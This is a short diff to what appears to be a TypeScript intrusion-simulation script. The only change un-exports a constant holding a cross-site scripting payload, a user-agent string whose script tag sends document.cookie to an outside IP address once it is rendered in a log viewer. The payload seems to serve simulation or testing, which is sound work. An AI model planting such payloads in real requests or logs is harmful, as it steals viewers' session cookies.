@@ -6,7 +6,7 @@ import { CI_USER } from '../estate/identities.ts';
 import type { Script } from '../script.ts';
 
 /** A user agent that an attacker chose to be seen in a log viewer. */
-export const MARKUP_AGENT = "<script>fetch('//198.51.100.23/'+document.cookie)</script>";
+const MARKUP_AGENT = "<script>fetch('//198.51.100.23/'+document.cookie)</script>";
 
 export function playIntrusion(script: Script): void {
   const { cast, estate } = script;
